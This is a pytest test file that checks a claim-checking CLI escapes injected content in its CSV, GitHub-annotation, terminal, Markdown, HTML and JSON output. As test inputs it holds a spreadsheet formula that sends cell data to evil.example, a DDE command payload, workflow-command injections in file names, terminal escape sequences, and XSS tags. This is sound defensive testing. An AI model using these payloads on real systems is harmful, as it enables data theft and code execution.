"""Article text, ledger text and file names never act on what shows them.

Spreadsheets (formulas), GitHub's log (workflow commands), terminals (escape sequences,
bidi overrides), Markdown and HTML viewers (markup), line-splitting JSON readers (U+2028):
each output format escapes what is foreign to it, and each check here is a real run.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

ESC = "\x1b"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: shows what follows reversed
FORMULA_ARTICLE = (
    '=HYPERLINK("http://evil.example/?"&A1) Putin visited Minsk in 2019.\n'
    "@SUM(1+1) Russia plans to merge with Belarus.\n"
)


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8"))
    return path


def verify(cli, desk: Path, *args: str):  # noqa: ANN001, ANN201
    return cli("verify", *args, "--ledger", "claims", "--fail-on", "none", cwd=desk)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV -----------------------------------------------------------------------------------------


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("command", ["verify", "extract"])
def test_csv_cells_never_start_a_spreadsheet_formula(cli, desk, command):
    write(desk / "a.txt", FORMULA_ARTICLE)
    gate = ("--ledger", "claims", "--fail-on", "none") if command == "verify" else ()
    result = cli(command, "a.txt", *gate, "-f", "csv", cwd=desk)
    assert result.code == 0, result.stderr
    rows = csv_rows(result.stdout)
    assert formula_cells(rows) == []
    sentences = [row[rows[0].index("sentence")] for row in rows[1:]]
    assert sentences[0].startswith("'=HYPERLINK(")  # the OWASP guard: shown, never run
    assert sentences[1].startswith("'@SUM(1+1)")


def test_raw_csv_turns_the_guard_off_for_programs(cli, desk):
    write(desk / "a.txt", FORMULA_ARTICLE)
    result = verify(cli, desk, "a.txt", "-f", "csv", "--raw-csv")
    rows = csv_rows(result.stdout)
    sentences = [row[rows[0].index("sentence")] for row in rows[1:]]
    assert sentences[0].startswith('=HYPERLINK("http')


def test_ledger_export_guards_formulas_and_reads_back_the_same(cli, desk):
    write(
        desk / "claims" / "more.yaml",
        "- id: minus\n  claim: -5% growth was reported for 2023.\n  status: false\n"
        "  notes: =cmd|' /C calc'!A0\n",
    )
    exported = cli("ledger", "export", "--format", "csv", "-o", "out/ledger.csv", cwd=desk)
    assert exported.code == 0, exported.stderr
    text = (desk / "out" / "ledger.csv").read_text(encoding="utf-8")
    assert formula_cells(csv_rows(text)) == []
    assert "'-5% growth" in text and "'=cmd|" in text
    # claimcheck reads its own guard back: the exported file is the same ledger
    listed = cli(
        "ledger", "show", "minus", "--ledger", "out/ledger.csv", "--format", "json", cwd=desk
    )
    entry = json.loads(listed.stdout)
    assert entry["claim"] == "-5% growth was reported for 2023."
    assert entry["notes"] == "=cmd|' /C calc'!A0"


def test_a_bare_carriage_return_in_a_field_is_quoted(cli, desk):
    write(desk / "cr.txt", "Putin visited Minsk\rin 2019.\n")
    result = verify(cli, desk, "cr.txt", "-f", "csv")
    rows = csv_rows(result.stdout)
    assert len(rows) == 2, rows
    assert {len(row) for row in rows} == {len(rows[0])}
    assert "Minsk\rin 2019" in rows[1][rows[0].index("text")]


# --- GitHub workflow commands ------------------------------------------------------------------

INJECTED_NAME = "empty\n::error file=README.md,line=1::INJECTED\n.txt"


def workflow_commands(output: str) -> list[str]:
    """The lines GitHub's runner would act on: ``::`` at the start, or ``##[`` anywhere."""
    return [line for line in output.splitlines() if line.lstrip().startswith("::") or "##[" in line]


def test_github_format_escapes_a_file_name_that_tries_to_inject_a_command(cli, desk):
    write(desk / "drafts" / INJECTED_NAME, "")
    write(
        desk / "drafts" / "::warning::x.txt",
        "Russia plans to merge with Belarus into a single state.\n",
    )
    write(desk / "drafts" / "##[error]y.txt", "")
    result = verify(cli, desk, "drafts/", "--format", "github")
    assert result.code == 0, result.stderr
    commands = workflow_commands(result.stdout + result.stderr)
    assert [line.split(" ", 1)[0] for line in commands] == ["::error"], commands
    assert "INJECTED" not in commands[0] and "file=drafts/%3A%3Awarning%3A%3Ax.txt" in commands[0]


def test_github_format_escapes_warnings_on_stderr(cli, desk):
    # a cp1252 file: its name is repeated in an encoding warning, on stderr
    (desk / "drafts").mkdir()
    (desk / "drafts" / "caf\n::error::x.txt").write_bytes(b"Caf\xe9 owners said prices rose.\n")
    result = verify(cli, desk, "drafts", "--format", "github")
    assert "decoded as cp1252" in result.stderr
    assert workflow_commands(result.stderr) == []


def test_an_error_naming_a_file_starts_no_workflow_command(cli, desk):
    result = verify(cli, desk, "##[error]missing.txt", "--format", "github")
    assert result.code == 2 and "missing.txt: no such file" in result.stderr
    assert workflow_commands(result.stderr) == []


def test_github_annotations_keep_article_text_on_one_line(cli, desk):
    write(desk / "a.txt", "Russia plans to merge ##[error] with Belarus into a single state.\n")
    result = verify(cli, desk, "a.txt", "--format", "github", "--fail-on", "refuted")
    [annotation] = workflow_commands(result.stdout)
    assert annotation.startswith("::error ")  # a real annotation, with the text as its data


# --- terminals -----------------------------------------------------------------------------------

TERMINAL_ARTICLE = (
    f"Russia plans {ESC}[2J{ESC}]0;pwned{ESC}\\ to merge with Belarus.\n"
    f"Putin visited {RLO}ksniM{chr(0x202C)} in 2019, said the {ESC}[31mminister.\n"
)


def test_text_output_shows_control_and_bidi_characters_as_escapes(cli, desk):
    write(desk / "a.txt", TERMINAL_ARTICLE)
    result = verify(cli, desk, "a.txt")
    assert ESC not in result.stdout and RLO not in result.stdout
    assert "\\x1b[2J" in result.stdout and "\\u202e" in result.stdout


def test_terminal_table_shows_control_characters_as_escapes():
    from claimcheck.api import check_text, load_ledger
    from claimcheck.model import Report
    from claimcheck.render import render
    from tests.conftest import LEDGER

    report = Report([check_text(TERMINAL_ARTICLE, load_ledger(LEDGER, use_cache=False))])
    for width in (80, 200):  # the compact layout and the table
        table = render(report, "text", color=True, width=width)
        colours = re.sub(r"\x1b\[[0-9;]*m", "", table)  # the table's own colour codes
        assert ESC not in colours and RLO not in colours
        assert "\\x1b[2J" in colours and "\\u202e" in colours


def test_rich_markup_in_an_article_is_shown_not_applied():
    from claimcheck.api import check_text, load_ledger
    from claimcheck.model import Report
    from claimcheck.render import render
    from tests.conftest import LEDGER

    text = "Russia plans [bold red]to merge[/] with Belarus [/oops].\n"
    report = Report([check_text(text, load_ledger(LEDGER, use_cache=False))])
    table = re.sub(r"\x1b\[[0-9;]*m", "", render(report, "text", color=True, width=200))
    assert "[bold red]to merge[/]" in table


def test_errors_on_stderr_show_control_characters_as_escapes(cli, desk):
    result = verify(cli, desk, f"missing{ESC}[2J.txt")
    assert result.code == 2
    assert ESC not in result.stderr and "missing\\x1b[2J.txt" in result.stderr


# --- Markdown and HTML ---------------------------------------------------------------------------

HTML_ARTICLE = (
    "Russia plans <svg onload=alert(1)> to merge with Belarus, "
    "said the <img src=x onerror=alert(2)>minister.\n"
    f"Putin visited {RLO}ksniM in 2019 ![pixel](http://tracker.example/p.png).\n"
)


def test_markdown_escapes_html_and_markdown_from_the_article(cli, desk):
    write(desk / "a.txt", HTML_ARTICLE)
    result = verify(cli, desk, "a.txt", "--format", "markdown")
    assert result.code == 0, result.stderr
    assert "<svg" not in result.stdout and "<img" not in result.stdout
    assert "&lt;svg onload=alert(1)&gt;" in result.stdout
    assert "![pixel](" not in result.stdout  # no image is loaded from the article's links
    assert RLO not in result.stdout
    for row in result.stdout.splitlines()[4:6]:  # the table keeps its six cells
        assert len(re.split(r"(?<!\\)\|", row)) == 8, row


def test_html_report_shows_bidi_controls_inert(cli, desk):
    write(desk / "a.txt", HTML_ARTICLE)
    result = verify(cli, desk, "a.txt", "--format", "html")
    assert RLO not in result.stdout
    assert "\\u202e" in result.stdout
    assert "<svg" not in result.stdout and "&lt;svg onload=alert(1)&gt;" in result.stdout


# --- JSON lines ----------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["verify", "extract"])
def test_jsonl_lines_survive_a_reader_that_splits_on_unicode_line_breaks(cli, desk, command):
    write(desk / "a.txt", "Putin visited\u2028Minsk in 2019,\u0085said\u2029Lukashenko.\n")
    ledger = ("--ledger", "claims") if command == "verify" else ()
    result = cli(command, "a.txt", *ledger, "--format", "jsonl", cwd=desk)
    assert result.code == 0, result.stderr
    lines = result.stdout.splitlines()  # splits on U+2028, U+2029 and U+0085 too
    assert lines and all(isinstance(json.loads(line), dict) for line in lines)
    assert "Minsk" in json.loads(lines[0])["text"]


def test_search_json_lines_escape_unicode_line_breaks(cli, desk):
    result = cli("search", "--ledger", "claims", stdin="Putin\u2028Minsk\n", cwd=desk)
    lines = result.stdout.splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["query"] == "Putin\u2028Minsk"


# --- machine formats -----------------------------------------------------------------------------

C1_CSI = "\x9b"  # one character that opens a terminal control sequence, as ESC [ does


@pytest.mark.parametrize("fmt", ["json", "jsonl", "sarif", "yaml", "csv"])
def test_machine_formats_carry_no_raw_control_or_bidi_characters(cli, desk, fmt):
    # `cat report.json` in a terminal must not run what an article smuggled in.
    write(desk / "a.txt", f"Putin visited {C1_CSI}2J{RLO}ksniM in 2019, said {ESC}]52;c;eA==\a.\n")
    result = verify(cli, desk, "a.txt", "-f", fmt)
    assert result.code == 0, result.stderr
    for char in (ESC, C1_CSI, RLO, "\a"):
        assert char not in result.stdout, (fmt, char)
    if fmt == "json":  # escaped, not dropped: the text reads back as the article has it
        claims = json.loads(result.stdout)["claims"]
        assert any(f"{C1_CSI}2J{RLO}ksniM" in claim["sentence"] for claim in claims)
    if fmt == "yaml":  # draft entries load back with the text as it was
        drafted = cli("extract", "a.txt", "-f", "yaml", cwd=desk)
        assert RLO not in drafted.stdout and C1_CSI not in drafted.stdout
        write(desk / "drafts" / "d.yaml", drafted.stdout)
        from claimcheck.ledger import load_ledger

        claims = [entry.claim for entry in load_ledger([desk / "drafts"]).entries]
        assert any(RLO in claim for claim in claims), claims


def test_a_guard_look_alike_reads_back_the_same(cli, desk):
    write(
        desk / "claims" / "more.yaml",
        "- id: quote\n  claim: \"'=1+1' is a formula, ''@x is not.\"\n  status: true\n",
    )
    exported = cli("ledger", "export", "--format", "csv", "-o", "out/ledger.csv", cwd=desk)
    assert exported.code == 0, exported.stderr
    listed = cli(
        "ledger", "show", "quote", "--ledger", "out/ledger.csv", "--format", "json", cwd=desk
    )
    assert json.loads(listed.stdout)["claim"] == "'=1+1' is a formula, ''@x is not."
